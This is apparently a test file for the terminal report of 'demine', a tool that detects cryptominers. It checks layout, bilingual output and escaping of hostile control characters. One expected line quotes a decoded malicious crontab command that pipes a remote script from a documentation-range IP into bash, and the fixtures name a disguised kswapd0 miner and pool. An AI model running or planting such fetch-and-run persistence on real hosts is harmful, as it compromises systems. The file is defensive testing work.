import { describe, expect, test } from 'bun:test';
import type { Language } from '../messages/catalogue.ts';
import type { ScanResult } from '../model/result.ts';
import { graveEntries } from './entries.fixture.ts';
import {
  cleanResult,
  crowdedResult,
  hostileResult,
  inconclusiveResult,
  miningResult,
  miningResultChinese,
  suspiciousResult,
} from './result.fixture.ts';
import { hostileStory, lateResult, provenResult, provenResultChinese } from './story.fixture.ts';
import { renderScan } from './terminal.ts';
import { displayWidth } from './width.ts';

const reportPath = 'cases/web-03-20261123T193102Z/report.html';

function screen(result: ScanResult, language: Language = 'en', width = 80): string {
  return renderScan(result, { width, color: false, language, reportPath });
}

const everyResult: readonly ScanResult[] = [
  miningResult,
  miningResultChinese,
  suspiciousResult,
  cleanResult,
  inconclusiveResult,
  hostileResult,
  crowdedResult(1),
  crowdedResult(4),
  crowdedResult(40),
  provenResult,
  provenResultChinese,
  lateResult,
  { ...crowdedResult(4), ...hostileStory('\x1b[2J\u202e挖'.repeat(99)) },
];

describe('the screen after a scan', () => {
  test('is at most 30 lines and never wider than the terminal, in both languages', () => {
    for (const result of everyResult) {
      for (const language of ['en', 'zh-CN'] as const) {
        for (const width of [40, 80, 132]) {
          const lines = screen(result, language, width).trimEnd().split('\n');
          if (width >= 80) expect(lines.length).toBeLessThanOrEqual(30);
          expect(Math.max(...lines.map(displayWidth))).toBeLessThanOrEqual(width);
        }
      }
    }
  });

  test('a host line that is full leaves its cores out, and no separator with nothing behind it', () => {
    const shown = (kernel: string): string => {
      const result = { ...cleanResult, host: { ...cleanResult.host, kernel } };
      const row = screen(result)
        .split('\n')
        .find((line) => line.startsWith('Host'));
      return (row ?? '').trimEnd();
    };
    expect(shown('6.1.0')).toMatch(/ · 8 cores$/);
    for (let length = 8; length < 40; length += 1) {
      expect(shown('6'.repeat(length))).not.toMatch(/ ·$/);
    }
  });

  test('leads with the answer, in words and a sign, without any colour', () => {
    expect(screen(miningResult)).toStartWith(' ✗ MINING ');
    expect(screen(miningResultChinese, 'zh-CN')).toStartWith(' ✗ 正在挖矿 ');
    expect(screen(suspiciousResult)).toStartWith(' ! SUSPICIOUS ');
    expect(screen(cleanResult, 'zh-CN')).toStartWith(' ✓ 未发现挖矿 ');
    expect(screen(inconclusiveResult, 'zh-CN')).toStartWith(' ? 无法下结论 ');
    expect(screen({ ...miningResult, state: 'traces' }, 'zh-CN')).toStartWith(' ! 仅有挖矿痕迹 ');
    expect(screen({ ...miningResult, state: 'stopped' }, 'zh-CN')).toContain('已停止');
  });

  test('shows of a miner who, since when, for which pool and wallet, and that it hides', () => {
    const text = screen(miningResult);
    for (const part of [
      'PID 4711',
      'kswapd0',
      '398 % CPU',
      '2 d 16 h',
      'hidden',
      'www-data',
      'shop nginx:1.25',
    ]) {
      expect(text).toContain(part);
    }
    expect(text).toContain('/tmp/.X11-unix/.rsync/c/kswapd0 (deleted)');
    expect(text).toContain('rx/0 (Monero) → pool.example.net:443');
    expect(text).toContain('wallet 48demine…');
    expect(text).not.toContain(miningResult.miners[0]?.wallet ?? '?');
  });

  test('shows the ten worst findings, proof first, and says how many there are', () => {
    const text = screen(crowdedResult(4));
    expect(text).toMatch(/^Findings \(the 1\d worst of 32\)$/m);
    expect(text.match(/^ {2}F\d+ /gm)?.length).toBe(10);
    const listed = text.slice(text.indexOf('Findings ('));
    expect(listed.indexOf('compute RandomX')).toBeLessThan(listed.indexOf('is hidden'));
  });

  test('findings that say the same about several processes take one line, which names them', () => {
    const [finding] = miningResult.findings;
    if (finding === undefined) throw new Error('the fixture has no finding');
    const same = [11, 12, 13].map((pid) => ({ ...finding, id: `F${pid}`, pid }));
    const text = screen({ ...miningResult, findings: same }, 'en', 120);
    expect(text).toContain('Findings (3)');
    expect(text.match(/^ {2}F\d+ /gm)?.length).toBe(1);
    expect(text).toContain('(pid 11, 12, 13)');
  });

  test('fits a terminal of 24 lines with its prompt, and uses a tall one', () => {
    for (const result of everyResult) {
      for (const language of ['en', 'zh-CN'] as const) {
        const rows = (height: number): number =>
          renderScan(result, { width: 80, height, color: false, language, reportPath }).split('\n').length;
        expect(rows(23)).toBeLessThanOrEqual(23);
        expect(rows(200)).toBeLessThanOrEqual(50);
      }
    }
    const tall = renderScan(crowdedResult(4), { width: 80, height: 49, color: false, language: 'en' });
    expect(tall.match(/wallet 48demine/g)?.length).toBe(4);
  });

  test('says since when the records of the host show it busy, unless it is clean', () => {
    const busySince = { from: '2026-11-20T23:00:00Z', certain: false };
    expect(screen({ ...miningResult, busySince })).toContain('busy since 2026-11-20 23:00 UTC or earlier');
    expect(screen({ ...miningResult, busySince }, 'zh-CN')).toContain('CPU 自 2026-11-20 23:00 UTC 或更早起');
    expect(screen({ ...cleanResult, busySince })).not.toContain('busy since');
  });

  test('says what brings the miner back: mechanism, place, reasons, and what the command hides', () => {
    const tall = { width: 132, height: 50, color: false };
    const english = renderScan(miningResult, { ...tall, language: 'en' });
    for (const part of [
      'Comes back by (2; 1 unusual, 5 benign entries)',
      "malicious  user's crontab  /var/spool/cron/crontabs/www-data:3  → PID 4711",
      'What is run is written in code (1 layer was undone). Fetches something',
      'decoded: curl -fsSL http://192.0.2.80/i.sh | bash',
      'suspicious  systemd service  /etc/systemd/system/dbus-update.service:7',
    ]) {
      expect(english).toContain(part);
    }
    const chinese = renderScan(miningResult, { ...tall, language: 'zh-CN' });
    expect(chinese).toContain('持久化项（2 处；另有少见 1 个、正常 5 个启动项）');
    expect(chinese).toContain('恶意  用户 crontab');
    expect(chinese).toContain('解码后：curl -fsSL');
    expect(chinese).toContain('/c/kswapd0（已删除）');
    // Between Chinese sentences there is no blank.
    expect(chinese).toContain('（已还原 1 层）。从网络');
    expect(chinese).toContain('rx/0（门罗币） → pool');
    expect(english).not.toContain('/etc/rc.local');
    expect(screen(cleanResult)).not.toContain('Comes back by');
  });

  test('entries that bring it back keep a line each beside everything else, or are counted', () => {
    const [entry] = graveEntries;
    if (entry === undefined) throw new Error('no entry');
    for (const height of [23, 30, 50]) {
      for (const many of [1, 3, 40]) {
        const persistence = Array.from({ length: many }, () => entry);
        for (const result of [miningResult, crowdedResult(40), suspiciousResult]) {
          for (const language of ['en', 'zh-CN'] as const) {
            const options = { width: 80, height, color: false, language, reportPath };
            const lines = renderScan({ ...result, persistence }, options)
              .trimEnd()
              .split('\n');
            expect(lines.length).toBeLessThanOrEqual(height);
            expect(lines.filter((text) => text.includes('www-data:3')).length).toBeGreaterThan(0);
          }
        }
      }
    }
    const many = screen({ ...miningResult, persistence: Array.from({ length: 40 }, () => entry) });
    expect(many).toMatch(/and 38 more, in the report/);
  });

  test('says how it got in, since when, what was told, who is at risk and whose doing it is', () => {
    const tall = { width: 80, height: 50, color: false } as const;
    const english = renderScan(provenResult, { ...tall, language: 'en' });
    for (const part of [
      'Way in   confirmed: a flaw of a web application · www-data from 198.51.100.77 +1',
      '         infected 2026-11-21 03:11 UTC',
      'Told     first sign 11-22 · discovered 11-23 09:15 · handled 11-23 18:40',
      'At risk  10.0.2.31 (this host is connected to it)',
      'Family   Kinsing (H2Miner) (attributed)',
      'Others   logs show ways into other hosts: db-1 (probable: SSH password guessing)',
    ])
      expect(english).toContain(part);
    const chinese = renderScan(provenResultChinese, { ...tall, language: 'zh-CN' });
    expect(chinese).toContain(
      '入侵    确认：Web 应用漏洞利用 · 来自 198.51.100.77 等 2 个地址，账户 www-data',
    );
    expect(chinese).toContain('告知    出现异常 11-22 · 发现 11-23 09:15 · 处置 11-23 18:40');
    const late = renderScan(lateResult, { ...tall, language: 'en' });
    expect(late).toContain('not known: the logs begin when it was infected already');
    expect(late).toContain('infected by 2026-11-20 23:00 UTC · mining since 2026-11-20 23:00');
    const [way] = provenResult.entry ?? [];
    if (way === undefined) throw new Error('the fixture has no way in');
    const lower = {
      ...way,
      grade: 'probable' as const,
      missing: ['no-inode-times', 'time-uncertain'] as const,
    };
    const probable = renderScan(
      { ...provenResult, entry: [{ ...lower, missing: [...lower.missing] }] },
      { ...tall, language: 'en' },
    );
    expect(probable).toContain('missing: the files have only times that touch(1) can set (+1)');
    expect(screen({ ...cleanResult, ...hostileStory('x') })).not.toContain('Way in');
    // The host itself is clean, and its logs tell of another one.
    const { hosts = [] } = provenResult;
    expect(screen({ ...cleanResult, hosts })).toContain('ways into other hosts: db-1');
    expect(screen({ ...cleanResult, hosts: hosts.slice(1) })).not.toContain('other hosts');
    expect(screen(miningResult)).toContain('not looked for; --logs reads the logs');
  });

  test('who it was goes to a line of its own where the first has no room for it', () => {
    const narrow = screen(provenResult, 'en', 60).split('\n');
    const at = narrow.findIndex((text) => text.startsWith('Way in'));
    expect(narrow[at]).toEndWith('a flaw of a web application');
    expect(narrow[at + 1]).toContain('www-data from 198.51.100.77 +1 · infected');
  });

  test('the way in stands on the smallest screen too, beside the ten worst findings on a usual one', () => {
    const small = renderScan(provenResult, { width: 80, height: 23, color: false, language: 'en' });
    expect(small).toContain('Way in  confirmed: a flaw of a web application');
    const many = { ...crowdedResult(4), ...provenResult, findings: crowdedResult(4).findings };
    const usual = renderScan(many, { width: 80, height: 30, color: false, language: 'zh-CN', reportPath });
    expect(usual.match(/^ {2}F\d+ /gm)?.length).toBe(10);
    expect(usual).toContain('感染于');
  });

  test('counts miners that have no room', () => {
    const text = screen(crowdedResult(40));
    const rows = text.match(/^ +60\d\d /gm)?.length ?? 0;
    expect(text).toContain(`and ${40 - rows} more, in the report`);
  });

  test('gives the exact next commands, whole, and the meaning of the exit code', () => {
    const text = screen(miningResult);
    expect(text).toMatch(/^ +demine contain \S+ --block --freeze$/m);
    expect(text).toContain(reportPath);
    expect(text.trimEnd()).toEndWith('Exit code 1: mining');
    expect(screen(inconclusiveResult)).toContain('sudo demine scan');
    expect(screen(inconclusiveResult).trimEnd()).toEndWith('Exit code 3: inconclusive');
  });

  test('names what was not checked, what the verdict needs first', () => {
    expect(screen(inconclusiveResult)).toMatch(/Not checked: .*registers of busy threads/);
    expect(screen({ ...cleanResult, coverage: [] })).toContain('nothing that the verdict needs');
  });

  test('no text of the target reaches the terminal as a control sequence', () => {
    const plain = screen(hostileResult);
    expect(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u200b]/.test(plain)).toBe(false);
    const colored = renderScan(hostileResult, { width: 80, color: true, language: 'en' });
    expect(colored).toContain('\x1b[1;97;41m');
    expect(/\x1b(?!\[[\d;]*m)/.test(colored)).toBe(false);
    expect(colored.replace(/\x1b\[[\d;]*m/g, '')).not.toContain('\x1b');
  });

  test('colour changes nothing but colour', () => {
    const colored = renderScan(miningResult, { width: 80, color: true, language: 'en', reportPath });
    const stripped = colored
      .replace(/\x1b\[[\d;]*m/g, '')
      .split('\n')
      .map((line) => line.trimEnd())
      .join('\n');
    expect(stripped).toBe(screen(miningResult));
  });
});
